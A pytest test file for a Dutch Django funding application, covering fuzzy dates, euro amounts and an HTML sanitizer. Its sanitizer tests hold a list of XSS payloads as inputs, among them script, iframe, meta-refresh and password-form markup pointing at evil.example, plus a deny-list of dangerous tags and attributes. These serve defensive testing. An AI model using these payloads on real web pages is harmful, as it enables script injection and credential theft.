"""The fields that all rooms share: dates known in part, money, text with markup."""

import datetime
from decimal import Decimal

import pytest
from django.core import serializers
from django.core.exceptions import ValidationError
from django.forms.models import modelform_factory
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from coalitie.basis.tekst import EenRegelField, TekstField
from coalitie.basis.velden import VageDatumFormField, zuiver
from financiering.models import AanvraagBedrag, Ronde
from tests.makers import datum, maak_bedrag, maak_interventie, maak_ronde
from themas.models import Interventie, Mijlpaal

BEGRIJPEN_WE_NIET = (
    "Deze datum begrijpen we niet. Schrijf bijvoorbeeld 4 juli 2024, juli 2024, najaar 2023 of 2023."
)


# VageDatumField in the database


@pytest.mark.parametrize(
    "tekst",
    ["29 februari 2024", "juli 2024", "najaar 2023", "winter 2023-2024", "2024", "2024 tot en met 2027"],
)
def test_datum_komt_terug_zoals_hij_erin_ging(db, tekst):
    rij = maak_interventie(begin=datum(tekst))
    rij.refresh_from_db()
    assert rij.begin == datum(tekst)
    assert str(rij.begin) == tekst


def test_tekst_en_dag_mogen_ook_worden_opgeslagen(db):
    rij = maak_interventie(begin="najaar 2023", eind=datetime.date(2024, 2, 29))
    rij.refresh_from_db()
    assert (rij.begin, rij.eind) == (datum("najaar 2023"), datum("29 februari 2024"))


def test_leeg_blijft_leeg(db):
    rij = maak_interventie(begin=None)
    rij.refresh_from_db()
    assert rij.begin is None
    assert Interventie.objects.filter(begin__isnull=True).exists()


def test_vraag_naar_eerste_dag_en_de_dag_na_de_laatste(db):
    rij = maak_interventie(begin=datum("juli 2024"))

    def gevonden(**vraag):
        return Interventie.objects.filter(pk=rij.pk, **vraag).exists()

    assert gevonden(begin__startswith=datetime.date(2024, 7, 1))
    assert gevonden(begin__startswith__lte=datetime.date(2024, 7, 1))
    assert not gevonden(begin__startswith__lt=datetime.date(2024, 7, 1))
    assert gevonden(begin__endswith=datetime.date(2024, 8, 1))
    assert not gevonden(begin__endswith__gt=datetime.date(2024, 8, 1))
    assert gevonden(begin__contains=datetime.date(2024, 7, 31))
    assert not gevonden(begin__contains=datetime.date(2024, 8, 1))
    assert gevonden(begin=datum("juli 2024"))
    assert gevonden(begin="juli 2024")
    assert not gevonden(begin=datum("2024"))


def test_gelezen_als_waarde_is_het_ook_een_vage_datum(db):
    maak_interventie(begin=datum("najaar 2023"))
    assert list(Interventie.objects.values_list("begin", flat=True)) == [datum("najaar 2023")]


def test_databank_sorteert_zoals_python(db):
    teksten = ["2024", "1 januari 2024", "januari 2024", "najaar 2023", "2023", "winter 2023"]
    for tekst in teksten:
        Mijlpaal.objects.create(titel=tekst, datum=datum(tekst))
    assert [rij.datum for rij in Mijlpaal.objects.all()] == sorted(map(datum, teksten))


def test_datum_gaat_door_een_export_heen(db):
    rij = maak_interventie(begin=datum("najaar 2023"))
    tekst = serializers.serialize("json", [rij])
    (terug,) = serializers.deserialize("json", tekst)
    assert terug.object.begin == datum("najaar 2023")
    assert terug.object.eind is None


def test_onleesbare_tekst_wordt_netjes_geweigerd(db):
    rij = maak_interventie()
    rij.begin = "binnenkort"
    with pytest.raises(ValidationError) as fout:
        rij.full_clean()
    assert fout.value.message_dict == {"begin": [BEGRIJPEN_WE_NIET]}


# VageDatumFormField


def test_formulier_leest_en_toont_een_datum():
    veld = VageDatumFormField()
    assert veld.clean(" herfst  2023 ") == datum("najaar 2023")
    assert veld.prepare_value(datum("najaar 2023")) == "najaar 2023"
    assert veld.prepare_value(None) == ""


def test_formulier_houdt_vast_wat_iemand_fout_typte():
    assert VageDatumFormField().prepare_value("binnenkort") == "binnenkort"


@pytest.mark.parametrize("tekst", ["binnenkort", "31 februari 2024", "2024 tot en met 2023", "0", "9" * 5000])
def test_formulier_weigert_met_een_voorbeeld(tekst):
    with pytest.raises(ValidationError) as fout:
        VageDatumFormField().clean(tekst)
    assert fout.value.messages == [BEGRIJPEN_WE_NIET]


def test_formulier_verplicht_of_niet():
    assert VageDatumFormField(required=False).clean("  ") is None
    with pytest.raises(ValidationError) as fout:
        VageDatumFormField().clean("")
    assert fout.value.messages == ["Dit veld is verplicht."]


@pytest.mark.parametrize(
    ("eerst", "nu", "veranderd"),
    [
        (datum("najaar 2023"), "najaar 2023", False),
        (datum("najaar 2023"), " Herfst 2023", False),
        (datum("najaar 2023"), "september 2023", True),
        (datum("najaar 2023"), "", True),
        (datum("najaar 2023"), "binnenkort", True),
        (None, "", False),
        (None, "2023", True),
        ("", "", False),
    ],
)
def test_formulier_weet_of_er_iets_veranderd_is(eerst, nu, veranderd):
    assert VageDatumFormField(required=False).has_changed(eerst, nu) is veranderd


def test_modelformulier_bewaart_de_datum_en_toont_hem_weer(db):
    rij = maak_interventie(begin=datum("2023"))
    Formulier = modelform_factory(Interventie, fields=["begin", "eind"])
    assert 'value="2023"' in str(Formulier(instance=rij)["begin"])
    formulier = Formulier({"begin": "winter 2023-2024", "eind": ""}, instance=rij)
    assert formulier.is_valid(), formulier.errors
    assert formulier.changed_data == ["begin"]
    formulier.save()
    rij.refresh_from_db()
    assert (rij.begin, rij.eind) == (datum("winter 2023"), None)


def test_modelformulier_geeft_de_fout_bij_het_veld(db):
    formulier = modelform_factory(Interventie, fields=["begin"])(
        {"begin": "ooit"}, instance=maak_interventie()
    )
    assert formulier.errors == {"begin": [BEGRIJPEN_WE_NIET]}
    assert 'value="ooit"' in str(formulier["begin"])


# GeldField


def bedragformulier(tekst):
    rij = Ronde(regeling=maak_ronde().regeling, naam="tweede ronde", slug="tweede")
    return modelform_factory(Ronde, fields=["plafond"])({"plafond": tekst}, instance=rij)


@pytest.mark.parametrize(
    ("tekst", "bedrag"),
    [
        ("10.440.872,29", "10440872.29"),
        ("10440872,29", "10440872.29"),
        ("10440872.29", "10440872.29"),
        ("1.000", "1000"),
        ("1000", "1000"),
        ("0", "0"),
        ("0,01", "0.01"),
        ("999.999.999.999,99", "999999999999.99"),
    ],
)
def test_bedrag_zoals_mensen_het_schrijven(db, tekst, bedrag):
    formulier = bedragformulier(tekst)
    assert formulier.is_valid(), formulier.errors
    rij = formulier.save()
    rij.refresh_from_db()
    assert rij.plafond == Decimal(bedrag)
    assert isinstance(rij.plafond, Decimal)


@pytest.mark.parametrize(
    ("tekst", "melding"),
    [
        ("-1", "Zorg ervoor dat deze waarde minstens 0 is."),
        ("1.000.000.000.000", "Zorg dat er niet meer dan 12 cijfers voor de komma staan."),
        ("0,001", "Zorg dat er niet meer dan 2 cijfers achter de komma staan."),
        ("veel", "Voer een getal in."),
        ("12 euro", "Voer een getal in."),
        ("NaN", "Voer een getal in."),
        ("Infinity", "Voer een getal in."),
        ("1e400", "Zorg dat er niet meer dan 14 cijfers zijn."),
    ],
)
def test_wat_geen_bedrag_is_wordt_geweigerd(db, tekst, melding):
    formulier = bedragformulier(tekst)
    assert formulier.errors["plafond"] == [melding]
    assert f'value="{tekst}"' in str(formulier["plafond"])


def test_bedrag_staat_in_het_formulier_zoals_we_het_schrijven(db):
    rij = maak_bedrag(bedrag=Decimal("10440872.29"))
    formulier = modelform_factory(AanvraagBedrag, fields=["bedrag"])(instance=rij)
    assert 'value="10.440.872,29"' in str(formulier["bedrag"])
    opnieuw = modelform_factory(AanvraagBedrag, fields=["bedrag"])({"bedrag": "10.440.872,29"}, instance=rij)
    assert not opnieuw.has_changed()


# OpmaakField and the filter ``opmaak``

KWAAD = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">klik</p>',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVa\tScRiPt:alert(1)">klik</a>',
    '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
    '<a href="vbscript:x">klik</a>',
    '<p style="position:fixed">over alles heen</p>',
    "<style>*{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<form action="https://evil.example"><input name="wachtwoord"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<p><!-- <script>alert(1)</script> --></p>",
]
VERBODEN = ("<script", "onerror", "onclick", "onload", "javascript:", "script:", "data:", "style", "<iframe")
VERBODEN += ("<svg", "<form", "<input", "<meta", "<img", "<math", "alert(1)</script", "<!--")


def is_onschuldig(html):
    return not any(woord in html.lower().replace("\t", "") for woord in VERBODEN)


@pytest.mark.parametrize("html", KWAAD)
def test_opmaakveld_haalt_weg_wat_kwaad_kan(db, html):
    rij = maak_interventie()
    rij.tekst = f"<p>Gewone tekst.</p>{html}"
    rij.full_clean()
    assert is_onschuldig(rij.tekst), rij.tekst
    assert "Gewone tekst." in rij.tekst


@pytest.mark.parametrize("html", KWAAD)
def test_filter_opmaak_vertrouwt_de_databank_niet(html):
    uit = Template("{{ tekst|opmaak }}").render(Context({"tekst": html}))
    assert is_onschuldig(uit), uit


@given(st.text(alphabet="<>/ab=\"'onclckstyejavscrip:; \t\x00-!"))
def test_schoongemaakt_blijft_schoon(html):
    assert zuiver(zuiver(html)) == zuiver(html)


@pytest.mark.parametrize("tussen", [" ", "  ", "\u00a0", "&nbsp;", " &nbsp;"])
def test_een_bedrag_valt_niet_uiteen_aan_het_eind_van_een_regel(db, tussen):
    rij = maak_interventie(
        tekst=f"<p>Er is €{tussen}10 en <em>&euro;{tussen}2,5 miljoen</em>. De € is een munt.</p>"
    )
    rij.refresh_from_db()
    assert rij.tekst == "<p>Er is €\u00a010 en <em>€\u00a02,5 miljoen</em>. De € is een munt.</p>"
    assert (
        Template("{{ tekst|opmaak }}").render(Context({"tekst": f"<p>€{tussen}10</p>"})) == "<p>€\u00a010</p>"
    )


def test_een_bedrag_in_een_gewoon_veld_valt_niet_uiteen():
    assert EenRegelField().clean("Voor  € 10\tof €11") == "Voor €\u00a010 of €11"
    assert TekstField().clean("Voor € 10\r\n€ 11") == "Voor €\u00a010\n€\u00a011"
    assert not EenRegelField().has_changed("Voor €\u00a010", "Voor €\u00a010")


def test_opmaak_houdt_wat_de_editor_maakt():
    html = (
        "<h2>Kop</h2><p>Een <strong>vet</strong> en <em>schuin</em> woord,<br>"
        '<a href="https://voorbeeld.nl">link</a></p><ul><li><p>een</p></li></ul>'
        "<ol><li><p>twee</p></li></ol><blockquote><p>zei iemand</p></blockquote>"
    )
    uit = zuiver(html)
    for stuk in (
        "<h2>",
        "<strong>",
        "<em>",
        "<br>",
        'href="https://voorbeeld.nl"',
        "<ul>",
        "<ol>",
        "<blockquote>",
    ):
        assert stuk in uit


# Amounts in words


@pytest.mark.parametrize(
    ("filter_", "waarde", "tekst"),
    [
        ("euro", Decimal("10440872.29"), "€ 10.440.872,29"),
        ("euro", Decimal("1000"), "€ 1.000"),
        ("euro", Decimal("0"), "€ 0"),
        ("euro", None, "nog niet bekend"),
        ("euro_kort", Decimal("10440872.29"), "€ 10,4 miljoen"),
        ("euro_kort", Decimal("18000000"), "€ 18 miljoen"),
        ("euro_kort", Decimal("999999.99"), "€ 1 miljoen"),
        ("euro_kort", Decimal("449999.50"), "€ 450.000"),
        ("euro_kort", Decimal("2250000"), "€ 2,3 miljoen"),
        ("euro_kort", Decimal("1234500000"), "€ 1.234,5 miljoen"),
        ("euro_kort", None, "nog niet bekend"),
    ],
)
def test_bedrag_op_de_site(filter_, waarde, tekst):
    uit = Template(f"{{{{ waarde|{filter_} }}}}").render(Context({"waarde": waarde}))
    assert uit.replace("\u00a0", " ") == tekst


@pytest.mark.parametrize(
    ("zekerheid", "bedrag", "tot", "tekst"),
    [
        ("exact", 18_000_000, None, "€ 18 miljoen"),
        ("afgerond", 18_000_000, None, "ongeveer € 18 miljoen"),
        ("ruim", 18_000_000, None, "ruim € 18 miljoen"),
        ("bandbreedte", 22_500_000, 27_000_000, "€ 22,5 tot 27 miljoen"),
        ("bandbreedte", 500_000, 750_000, "€ 500.000 tot € 750.000"),
        ("bandbreedte", 500_000, 1_500_000, "€ 500.000 tot € 1.500.000"),
        ("onbekend", None, None, "nog niet bekend"),
    ],
)
def test_bedrag_met_zekerheid_in_woorden(zekerheid, bedrag, tot, tekst):
    regel = AanvraagBedrag(zekerheid=zekerheid, bedrag=bedrag, bedrag_tot=tot)
    uit = Template("{{ regel|bedrag_in_woorden }}").render(Context({"regel": regel}))
    assert uit.replace("\u00a0", " ") == tekst


def test_geen_regel_is_nog_niet_bekend():
    assert Template("{{ niets|bedrag_in_woorden }}").render(Context({"niets": None})) == "nog niet bekend"
